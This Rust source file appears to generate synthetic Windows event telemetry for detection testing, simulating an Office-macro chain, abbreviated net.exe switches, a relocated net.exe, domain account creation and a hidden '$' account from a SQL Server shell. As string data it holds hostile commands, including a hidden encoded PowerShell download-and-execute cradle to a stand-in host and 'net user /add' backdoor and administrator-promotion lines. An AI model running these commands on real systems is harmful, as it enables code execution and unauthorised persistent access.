//! The Windows attack chains of the sample data: Office macro to `net user /add` and a fast
//! promotion to Administrators, the undocumented `/ad` switch, net.exe copied outside
//! System32, a domain account via `/domain`, and a hidden `$` account from a SQL Server shell.

use super::background::net_command;
use super::scenarios::{Ctx, Story, encode_powershell, sam_name_key, spawn};
use super::win_events as win;
use super::win_iam::{self as iam, ADMINISTRATORS, NewAccount, Subject};
use super::world::{DOMAIN, DOMAIN_SID};
use std::io::{self, Write};

const NET: &str = r"C:\Windows\System32\net.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

/// A local account created with `net user` from `shell` on host `h`: net.exe, net1.exe, the
/// SAM key and 4720. Returns the new SID.
fn local_creation<W: Write>(
    ctx: &mut Ctx<'_, W>,
    h: usize,
    ts: i64,
    shell: &super::world::Proc,
    net_exe: &str,
    account: &str,
    verbs: &str,
) -> io::Result<String> {
    let host = &mut ctx.hosts[h];
    net_command(ctx.sink, host, ts, shell, net_exe, verbs)?;
    let rid = host.alloc_rid();
    let sid = format!("{}-{rid}", host.local_sid);
    sam_name_key(ctx.sink, host, ts + 40, account, rid)?;
    let (user, user_sid, logon_id) = (
        host.user.name.clone(),
        host.user.sid.clone(),
        host.user.logon_id.clone(),
    );
    let subject_name = if shell.user == "SYSTEM" || shell.user.is_empty() {
        user
    } else {
        shell.user.clone()
    };
    let subject = Subject {
        name: &subject_name,
        domain: DOMAIN,
        sid: &user_sid,
        logon_id: &logon_id,
    };
    let machine = host.name.to_uppercase();
    let account = NewAccount {
        name: account,
        domain: &machine,
        sid: &sid,
        computer: false,
    };
    iam::user_created(ctx.sink, host, ts + 45, &subject, &account)?;
    Ok(sid)
}

pub fn run<W: Write>(
    ctx: &mut Ctx<'_, W>,
    story: Story,
    phase: u8,
    ts: i64,
) -> io::Result<Option<i64>> {
    match (story, phase) {
        (Story::OfficeChain, 0) => {
            let h = ctx.roles.wks(0);
            let host = &mut ctx.hosts[h];
            let (explorer, user) = (host.explorer.clone(), host.user.name.clone());
            let doc = format!(
                r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\Invoice_8841.docm" /o """#
            );
            let word = spawn(
                ctx.sink,
                host,
                ts,
                &explorer,
                r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                &doc,
                &user,
                DOMAIN,
                "WinWord.exe",
                "Microsoft Word",
            )?;
            let script = "$c=New-Object Net.WebClient;IEX $c.DownloadString('https://cdn-updates.example.net/u.ps1')";
            let ps_cmd = format!(
                "powershell.exe -nop -w hidden -enc {}",
                encode_powershell(script)
            );
            let ps = spawn(
                ctx.sink,
                host,
                ts + 4_200,
                &word,
                POWERSHELL,
                &ps_cmd,
                &user,
                DOMAIN,
                "PowerShell.EXE",
                "Windows PowerShell",
            )?;
            win::network_connection(
                ctx.sink,
                host,
                ts + 5_100,
                &ps,
                "203.0.113.50",
                443,
                "cdn-updates.example.net",
                51_812,
            )?;
            let cmd = spawn(
                ctx.sink,
                host,
                ts + 8_000,
                &ps,
                CMD,
                r#""C:\Windows\system32\cmd.exe" /c net user svc_backup P@ssw0rd2026! /add"#,
                &user,
                DOMAIN,
                "Cmd.Exe",
                "Windows Command Processor",
            )?;
            let sid = local_creation(
                ctx,
                h,
                ts + 8_300,
                &cmd,
                NET,
                "svc_backup",
                "user svc_backup P@ssw0rd2026! /add",
            )?;
            ctx.state.sids.insert(story, sid);
            ctx.state.procs.insert((story, "powershell"), ps);
            Ok(Some(4 * 60_000))
        }
        (Story::OfficeChain, 1) => {
            let h = ctx.roles.wks(0);
            let Some(ps) = ctx.state.procs.get(&(story, "powershell")).cloned() else {
                return Ok(None);
            };
            let sid = ctx.state.sids.get(&story).cloned().unwrap_or_default();
            let host = &mut ctx.hosts[h];
            let user = host.user.name.clone();
            let cmd = spawn(
                ctx.sink,
                host,
                ts,
                &ps,
                CMD,
                r#""C:\Windows\system32\cmd.exe" /c net localgroup administrators svc_backup /add"#,
                &user,
                DOMAIN,
                "Cmd.Exe",
                "Windows Command Processor",
            )?;
            net_command(
                ctx.sink,
                host,
                ts + 300,
                &cmd,
                NET,
                "localgroup administrators svc_backup /add",
            )?;
            let (user_sid, logon_id) = (host.user.sid.clone(), host.user.logon_id.clone());
            let subject = Subject {
                name: &user,
                domain: DOMAIN,
                sid: &user_sid,
                logon_id: &logon_id,
            };
            iam::member_added(
                ctx.sink,
                host,
                ts + 340,
                &subject,
                &sid,
                None,
                &ADMINISTRATORS,
            )?;
            Ok(None)
        }
        (Story::AbbreviatedSwitch, 0) => {
            let h = ctx.roles.wks(1);
            let shell = super::background::user_shell(ctx.sink, &mut ctx.hosts[h], ts)?;
            let sid = local_creation(
                ctx,
                h,
                ts + 2_000,
                &shell,
                NET,
                "helpdesk_tmp",
                "user helpdesk_tmp Winter2026! /ad",
            )?;
            ctx.state.sids.insert(story, sid);
            ctx.state.procs.insert((story, "shell"), shell);
            // The promotion comes eleven minutes later: outside the correlation's window.
            Ok(Some(11 * 60_000 + 30_000))
        }
        (Story::AbbreviatedSwitch, 1) => {
            let h = ctx.roles.wks(1);
            let Some(shell) = ctx.state.procs.get(&(story, "shell")).cloned() else {
                return Ok(None);
            };
            let sid = ctx.state.sids.get(&story).cloned().unwrap_or_default();
            let host = &mut ctx.hosts[h];
            net_command(
                ctx.sink,
                host,
                ts,
                &shell,
                NET,
                "localgroup administrators helpdesk_tmp /add",
            )?;
            let (user, user_sid, logon_id) = (
                host.user.name.clone(),
                host.user.sid.clone(),
                host.user.logon_id.clone(),
            );
            let subject = Subject {
                name: &user,
                domain: DOMAIN,
                sid: &user_sid,
                logon_id: &logon_id,
            };
            iam::member_added(
                ctx.sink,
                host,
                ts + 40,
                &subject,
                &sid,
                None,
                &ADMINISTRATORS,
            )?;
            Ok(None)
        }
        (Story::AlternateLocation, 0) => {
            let h = ctx.roles.wks(2);
            let host = &mut ctx.hosts[h];
            let (explorer, user) = (host.explorer.clone(), host.user.name.clone());
            let ps = spawn(
                ctx.sink,
                host,
                ts,
                &explorer,
                POWERSHELL,
                r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" "#,
                &user,
                DOMAIN,
                "PowerShell.EXE",
                "Windows PowerShell",
            )?;
            win::file_created(ctx.sink, host, ts + 20_000, &ps, r"C:\Users\Public\Net.exe")?;
            let copy = r"C:\users\PUBLIC\Net.exe";
            local_creation(
                ctx,
                h,
                ts + 31_000,
                &ps,
                copy,
                "support_388945a0",
                "user support_388945a0 Sup0rt!2026 /add",
            )?;
            Ok(None)
        }
        (Story::DomainCreation, 0) => {
            let h = ctx.roles.wks(2);
            let host = &mut ctx.hosts[h];
            let shell = super::background::user_shell(ctx.sink, host, ts)?;
            net_command(
                ctx.sink,
                host,
                ts + 3_000,
                &shell,
                NET,
                "user adm_backup Backup#2026 /add /domain",
            )?;
            let (user, user_sid) = (host.user.name.clone(), host.user.sid.clone());
            let dc = &mut ctx.hosts[ctx.roles.dc];
            let rid = 5_000 + dc.alloc_rid();
            let sid = format!("{DOMAIN_SID}-{rid}");
            let subject = Subject {
                name: &user,
                domain: DOMAIN,
                sid: &user_sid,
                logon_id: "0x8a2f31",
            };
            let account = NewAccount {
                name: "adm_backup",
                domain: DOMAIN,
                sid: &sid,
                computer: false,
            };
            iam::user_created(ctx.sink, dc, ts + 3_200, &subject, &account)?;
            Ok(None)
        }
        (Story::HiddenAccount, 0) => {
            let h = ctx.roles.file_server;
            let host = &mut ctx.hosts[h];
            let services = host.services.clone();
            let sql = spawn(
                ctx.sink,
                host,
                ts,
                &services,
                r"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe",
                r#""C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER"#,
                "svc_sql",
                DOMAIN,
                "sqlservr.exe",
                "SQL Server Windows NT - 64 Bit",
            )?;
            let cmd = spawn(
                ctx.sink,
                host,
                ts + 180_000,
                &sql,
                CMD,
                r#""C:\Windows\system32\cmd.exe" /c net user backup$ Sup3rS3cret! /add"#,
                "svc_sql",
                DOMAIN,
                "Cmd.Exe",
                "Windows Command Processor",
            )?;
            local_creation(
                ctx,
                h,
                ts + 180_200,
                &cmd,
                NET,
                "backup$",
                "user backup$ Sup3rS3cret! /add",
            )?;
            Ok(None)
        }
        _ => Ok(None),
    }
}
